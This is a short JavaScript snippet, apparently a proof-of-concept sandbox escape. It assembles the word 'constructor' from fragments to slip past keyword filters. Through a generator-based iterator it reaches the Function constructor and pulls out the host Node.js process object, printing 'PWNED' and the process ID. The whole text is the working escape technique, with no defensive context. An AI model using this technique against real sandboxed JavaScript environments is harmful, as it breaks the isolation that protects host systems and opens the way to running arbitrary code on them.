const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield (x) => x; } }
const o = { [Symbol.iterator]: G.prototype[Symbol.iterator] };
const [f] = o;
console.log('PWNED', f[w]('return process')().pid);
